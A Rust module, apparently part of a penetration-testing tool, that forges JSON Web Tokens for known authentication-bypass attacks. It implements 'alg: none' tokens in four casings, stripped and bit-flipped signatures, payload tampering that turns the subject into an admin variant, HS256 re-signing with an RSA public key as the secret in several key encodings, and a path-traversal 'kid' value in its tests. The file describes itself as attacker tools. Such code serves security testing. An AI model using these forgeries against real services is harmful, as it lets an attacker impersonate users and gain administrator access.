//! Forging JWTs for the `JW-*` attacks (the jwt_tool playbook): `alg: none` in any casing, stripped
//! and tampered signatures, HS256 re-signing with an RSA public key as the secret, `kid` injection.
//!
//! A forged token keeps the original payload bytes (so only the attacked part differs). Nothing
//! here verifies anything: these are attacker tools.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use jsonwebtoken::{Algorithm, EncodingKey};
use serde_json::{Map, Value};

/// A compact JWS split into its parts, with the header and payload decoded.
#[derive(Debug, Clone)]
pub struct Jwt {
    header_b64: String,
    payload_b64: String,
    signature_b64: String,
    header: Map<String, Value>,
    payload: Map<String, Value>,
}

/// Parses a compact JWS (three base64url parts, JSON header and payload). `None` otherwise.
pub fn parse(token: &str) -> Option<Jwt> {
    let mut parts = token.split('.');
    let (h, p, s) = (parts.next()?, parts.next()?, parts.next()?);
    if parts.next().is_some() {
        return None;
    }
    let header = decode_object(h)?;
    let payload = decode_object(p)?;
    Some(Jwt {
        header_b64: h.to_string(),
        payload_b64: p.to_string(),
        signature_b64: s.to_string(),
        header,
        payload,
    })
}

fn decode_object(part: &str) -> Option<Map<String, Value>> {
    let bytes = URL_SAFE_NO_PAD.decode(part.trim_end_matches('=')).ok()?;
    match serde_json::from_slice(&bytes).ok()? {
        Value::Object(m) => Some(m),
        _ => None,
    }
}

fn encode_object(m: &Map<String, Value>) -> String {
    // Serializing a map of JSON values cannot fail.
    URL_SAFE_NO_PAD.encode(serde_json::to_vec(m).unwrap_or_default())
}

impl Jwt {
    /// The header's `alg`.
    pub fn alg(&self) -> Option<&str> {
        self.header.get("alg").and_then(Value::as_str)
    }

    /// The header's `typ`.
    pub fn typ(&self) -> Option<&str> {
        self.header.get("typ").and_then(Value::as_str)
    }

    /// A payload claim.
    pub fn claim(&self, name: &str) -> Option<&Value> {
        self.payload.get(name)
    }

    /// `exp` in seconds since the epoch.
    pub fn exp(&self) -> Option<i64> {
        self.claim("exp").and_then(Value::as_i64)
    }

    fn header_with(&self, f: impl FnOnce(&mut Map<String, Value>)) -> String {
        let mut h = self.header.clone();
        f(&mut h);
        encode_object(&h)
    }

    /// The original header and payload with `alg` set to `alg_value` (e.g. `nOnE`) and an empty
    /// signature (CVE-2015-2951).
    pub fn alg_none(&self, alg_value: &str) -> String {
        let h = self.header_with(|h| {
            h.insert("alg".into(), Value::String(alg_value.into()));
        });
        format!("{h}.{}.", self.payload_b64)
    }

    /// The original header and payload with the signature removed (CVE-2020-28042).
    pub fn stripped(&self) -> String {
        format!("{}.{}.", self.header_b64, self.payload_b64)
    }

    /// The original token with one bit of the signature flipped.
    pub fn tampered_signature(&self) -> String {
        let mut sig = URL_SAFE_NO_PAD
            .decode(self.signature_b64.trim_end_matches('='))
            .unwrap_or_default();
        match sig.last_mut() {
            Some(b) => *b ^= 0x01,
            None => sig.push(0x01),
        }
        format!(
            "{}.{}.{}",
            self.header_b64,
            self.payload_b64,
            URL_SAFE_NO_PAD.encode(sig)
        )
    }

    /// The original header and signature over a payload whose `sub` was changed.
    pub fn tampered_payload(&self) -> String {
        let mut p = self.payload.clone();
        let sub = p
            .get("sub")
            .and_then(Value::as_str)
            .map(|s| format!("{s}-admin"))
            .unwrap_or_else(|| "admin".into());
        p.insert("sub".into(), Value::String(sub));
        format!(
            "{}.{}.{}",
            self.header_b64,
            encode_object(&p),
            self.signature_b64
        )
    }

    /// The original payload signed with HS256 and `secret`, after `edit` changed the header
    /// (`alg` is set to `HS256` first).
    pub fn resigned_hs256(
        &self,
        secret: &[u8],
        edit: impl FnOnce(&mut Map<String, Value>),
    ) -> Option<String> {
        let h = self.header_with(|h| {
            h.insert("alg".into(), Value::String("HS256".into()));
            edit(h);
        });
        let input = format!("{h}.{}", self.payload_b64);
        let sig = jsonwebtoken::crypto::sign(
            input.as_bytes(),
            &EncodingKey::from_secret(secret),
            Algorithm::HS256,
        )
        .ok()?;
        Some(format!("{input}.{sig}"))
    }
}

/// The four casings of `none` tried by jwt_tool.
pub const NONE_CASINGS: [&str; 4] = ["none", "None", "NONE", "nOnE"];

/// The forms of an RSA public key (`n`, `e` big-endian) that key-confusion attacks use as an HMAC
/// secret: PEM and DER, SubjectPublicKeyInfo and PKCS#1, with and without the final newline.
pub fn rsa_public_key_secrets(n: &[u8], e: &[u8]) -> Vec<(&'static str, Vec<u8>)> {
    let pkcs1 = der_seq(&[der_uint(n), der_uint(e)].concat());
    // AlgorithmIdentifier { rsaEncryption, NULL }
    let alg_id = der_seq(
        &[
            &[
                0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01,
            ][..],
            &[0x05, 0x00][..],
        ]
        .concat(),
    );
    let mut bits = vec![0u8];
    bits.extend_from_slice(&pkcs1);
    let spki = der_seq(&[alg_id, der_tlv(0x03, &bits)].concat());
    let spki_pem = pem("PUBLIC KEY", &spki);
    let pkcs1_pem = pem("RSA PUBLIC KEY", &pkcs1);
    vec![
        ("PEM (SubjectPublicKeyInfo)", spki_pem.clone().into_bytes()),
        (
            "PEM (SubjectPublicKeyInfo, no final newline)",
            spki_pem.trim_end().as_bytes().to_vec(),
        ),
        ("DER (SubjectPublicKeyInfo)", spki),
        ("PEM (PKCS#1)", pkcs1_pem.into_bytes()),
        ("DER (PKCS#1)", pkcs1),
    ]
}

fn pem(label: &str, der: &[u8]) -> String {
    let b64 = STANDARD.encode(der);
    let mut out = format!("-----BEGIN {label}-----\n");
    for chunk in b64.as_bytes().chunks(64) {
        out.push_str(&String::from_utf8_lossy(chunk));
        out.push('\n');
    }
    out.push_str(&format!("-----END {label}-----\n"));
    out
}

fn der_len(len: usize) -> Vec<u8> {
    if len < 0x80 {
        return vec![len as u8];
    }
    let bytes: Vec<u8> = len
        .to_be_bytes()
        .into_iter()
        .skip_while(|b| *b == 0)
        .collect();
    let mut out = vec![0x80 | bytes.len() as u8];
    out.extend(bytes);
    out
}

fn der_tlv(tag: u8, content: &[u8]) -> Vec<u8> {
    let mut out = vec![tag];
    out.extend(der_len(content.len()));
    out.extend_from_slice(content);
    out
}

fn der_seq(content: &[u8]) -> Vec<u8> {
    der_tlv(0x30, content)
}

fn der_uint(big_endian: &[u8]) -> Vec<u8> {
    let trimmed: Vec<u8> = big_endian.iter().copied().skip_while(|b| *b == 0).collect();
    let mut content = Vec::with_capacity(trimmed.len() + 1);
    if trimmed.first().is_none_or(|b| b & 0x80 != 0) {
        content.push(0);
    }
    content.extend(trimmed);
    der_tlv(0x02, &content)
}

/// Decodes a base64url JWK member (`n`, `e`).
pub fn b64url(s: &str) -> Option<Vec<u8>> {
    URL_SAFE_NO_PAD.decode(s.trim_end_matches('=')).ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn token() -> String {
        let h = URL_SAFE_NO_PAD.encode(br#"{"alg":"ES256","typ":"at+jwt","kid":"k1"}"#);
        let p = URL_SAFE_NO_PAD.encode(br#"{"sub":"user1","exp":1700000000}"#);
        format!("{h}.{p}.c2lnbmF0dXJl")
    }

    #[test]
    fn parses_and_forges() {
        let t = token();
        let j = parse(&t).unwrap();
        assert_eq!(j.alg(), Some("ES256"));
        assert_eq!(j.typ(), Some("at+jwt"));
        assert_eq!(j.exp(), Some(1_700_000_000));
        let none = parse(&j.alg_none("nOnE")).unwrap();
        assert_eq!(none.alg(), Some("nOnE"));
        assert!(j.alg_none("none").ends_with('.'));
        assert_eq!(none.claim("sub"), j.claim("sub"));
        assert!(j.stripped().ends_with('.') && j.stripped().len() < t.len());
        assert_ne!(j.tampered_signature(), t);
        assert_eq!(parse(&j.tampered_signature()).unwrap().alg(), Some("ES256"));
        let tp = parse(&j.tampered_payload()).unwrap();
        assert_eq!(tp.claim("sub").and_then(Value::as_str), Some("user1-admin"));
        let hs = j
            .resigned_hs256(b"key", |h| {
                h.insert("kid".into(), Value::String("../../dev/null".into()));
            })
            .unwrap();
        let hj = parse(&hs).unwrap();
        assert_eq!(hj.alg(), Some("HS256"));
        assert_eq!(
            hj.header.get("kid").and_then(Value::as_str),
            Some("../../dev/null")
        );
        // The HS256 signature verifies with the same secret.
        let (input, sig) = hs.rsplit_once('.').unwrap();
        assert!(
            jsonwebtoken::crypto::verify(
                sig,
                input.as_bytes(),
                &jsonwebtoken::DecodingKey::from_secret(b"key"),
                Algorithm::HS256
            )
            .unwrap()
        );
        assert!(parse("a.b").is_none() && parse("not a jwt").is_none());
    }

    #[test]
    fn rsa_key_forms_are_valid_der() {
        let n = [0xc3u8; 256];
        let forms = rsa_public_key_secrets(&n, &[1, 0, 1]);
        assert_eq!(forms.len(), 5);
        let (_, spki_der) = &forms[2];
        assert_eq!(spki_der[0], 0x30);
        // Long-form length: 0x82 then two bytes that account for the rest.
        assert_eq!(spki_der[1], 0x82);
        let len = u16::from_be_bytes([spki_der[2], spki_der[3]]) as usize;
        assert_eq!(len + 4, spki_der.len());
        let pem = String::from_utf8(forms[0].1.clone()).unwrap();
        assert!(pem.starts_with("-----BEGIN PUBLIC KEY-----\n") && pem.ends_with("-----\n"));
        // n has its high bit set: the INTEGER gets a leading zero.
        let pkcs1 = &forms[4].1;
        assert_eq!(&pkcs1[4..8], &[0x02, 0x82, 0x01, 0x01]);
    }
}
